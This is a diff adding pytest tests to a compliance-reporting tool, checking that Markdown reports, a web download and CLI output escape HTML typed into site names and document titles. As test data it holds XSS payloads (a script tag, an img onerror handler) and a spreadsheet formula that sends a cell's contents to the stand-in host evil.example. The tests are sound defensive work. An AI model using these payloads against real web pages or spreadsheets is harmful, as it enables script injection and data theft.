@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import io
 import json
+import re
 
 import pytest
 import yaml
 from lxml import html as lhtml
+from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 from typer.testing import CliRunner
 
@@ -16,11 +18,14 @@ from compliance.cli import app as cli
 from compliance.evaluate import evaluate
 from compliance.excel import read_workbook
 from compliance.loading import validate
+from compliance.render import render_markdown, render_matrix_markdown
 from compliance.storage import AuditEntry, create_token
 from webclient import FIXTURES, csrf_of, sign_in, web_client
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Открыть")'
 RISKY = [FORMULA, "+7 (495) 000-00-00", "-1+1", "@SUM(A1:A2)", "\tтабуляция", "#N/A"]
+SCRIPT = '<script>alert("x")</script> Парк'
+IMG = '<img src=x onerror=alert(1)> Устав'
 
 
 def _post_application(web, raw: dict):
@@ -265,3 +270,61 @@ def test_the_services_batch_summary_writes_site_names_as_text(tmp_path):
     x = web.client.get(r.headers["location"].replace("/checks/batch?", "/checks/batch.xlsx?"))
     assert x.status_code == 200
     _assert_text_cells(load_workbook(io.BytesIO(x.content)), [FORMULA, "@SUM(A1:A2)"])
+
+
+# --- Markdown without raw HTML --------------------------------------------------------------------------------------
+def _application_with_html():
+    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
+    raw["site_name"] = SCRIPT
+    raw["documents"][0]["title"] = IMG
+    return raw
+
+
+def _assert_no_raw_html(markdown: str) -> None:
+    """No raw tag in the text, and a CommonMark renderer (with tables and raw HTML allowed) makes no element of it:
+    the user's text is shown literally."""
+    assert "<script" not in markdown.lower() and "<img" not in markdown.lower()
+    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
+    tree = lhtml.fromstring(f"<div>{page}</div>")
+    assert tree.xpath("//script | //img") == []
+    assert SCRIPT in tree.text_content()
+
+
+def test_markdown_report_escapes_html_in_user_text():
+    raw = _application_with_html()
+    report = evaluate(validate(raw), "ip794")
+    md = render_markdown(report)
+    _assert_no_raw_html(md)
+    page = lhtml.fromstring(f"<div>{MarkdownIt('commonmark', {'html': True}).enable('table').render(md)}</div>")
+    assert page.xpath("string(//h1)") == f"Отчёт о соответствии: {SCRIPT}"
+    assert IMG in page.text_content()  # the document's title, shown as typed
+
+
+def test_markdown_matrix_escapes_html_in_the_site_name():
+    from compliance.eligibility import eligibility
+
+    app = validate(_application_with_html())
+    _assert_no_raw_html(render_matrix_markdown(eligibility(app)))
+
+
+def test_markdown_download_of_the_service_has_no_raw_html(tmp_path):
+    web = web_client(tmp_path)
+    r = _post_application(web, _application_with_html())
+    assert r.status_code == 201, r.text
+    r = web.post(f"/applications/{r.json()['id']}/check", {"regime": "", "as_of": ""})
+    assert r.status_code == 303, r.text[:2000]
+    md = web.client.get(f"{r.headers['location']}/report.md")
+    assert md.status_code == 200 and md.headers["content-type"].startswith("text/markdown")
+    _assert_no_raw_html(md.text)
+    assert re.search(r"^# Отчёт о соответствии: &lt;script&gt;", md.text, re.M)
+
+
+def test_markdown_what_if_shows_a_value_with_backticks_as_code(tmp_path):
+    """A value of `--set` is shown in a code span that its own backticks cannot close."""
+    value = "`" + SCRIPT + "`"
+    result = CliRunner().invoke(cli, ["check", str(FIXTURES / "ip794-created-gaps.yaml"), "--format", "md",
+                                      "--set", f"site_name={json.dumps(value, ensure_ascii=False)}"])
+    assert result.exit_code == 1, result.output
+    page = lhtml.fromstring(f"<div>{MarkdownIt('commonmark', {'html': True}).render(result.stdout)}</div>")
+    assert page.xpath("//script") == []
+    assert json.dumps(value, ensure_ascii=False) in page.xpath("//li/code/text()")
